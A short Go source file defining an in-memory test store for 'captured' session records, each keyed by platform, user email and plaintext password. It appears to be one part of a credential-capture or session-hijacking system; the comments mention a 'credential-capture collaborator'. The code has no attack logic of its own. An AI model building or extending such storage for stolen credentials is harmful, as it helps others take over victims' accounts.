package kvstore

import (
	"context"
	"sort"
	"sync"
)

// MemoryStore is an in-process reference implementation of Store, useful for
// tests and local development without a persistent backend.
type MemoryStore struct {
	mu       sync.RWMutex
	sessions []StoredSession
}

// NewMemoryStore creates an empty MemoryStore.
func NewMemoryStore() *MemoryStore {
	return &MemoryStore{}
}

// Put appends a session record, as the credential-capture collaborator
// would. Later calls with a later CapturedAt shadow earlier ones for
// GetLatestSessionForUser.
func (m *MemoryStore) Put(s StoredSession) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.sessions = append(m.sessions, s)
}

func (m *MemoryStore) GetLatestSessionForUser(ctx context.Context, platform, email, password string) (*StoredSession, error) {
	m.mu.RLock()
	defer m.mu.RUnlock()

	var matches []StoredSession
	for _, s := range m.sessions {
		if s.Platform == platform && s.UserEmail == email && s.UserPassword == password {
			matches = append(matches, s)
		}
	}
	if len(matches) == 0 {
		return nil, nil
	}
	sort.Slice(matches, func(i, j int) bool {
		return matches[i].CapturedAt.After(matches[j].CapturedAt)
	})
	latest := matches[0]
	return &latest, nil
}

func (m *MemoryStore) GetSessionStats(ctx context.Context) (Stats, error) {
	m.mu.RLock()
	defer m.mu.RUnlock()

	stats := Stats{PerPlatformCounts: make(map[string]int)}
	for _, s := range m.sessions {
		stats.TotalSessions++
		stats.PerPlatformCounts[s.Platform]++
	}
	return stats, nil
}

var _ Store = (*MemoryStore)(nil)
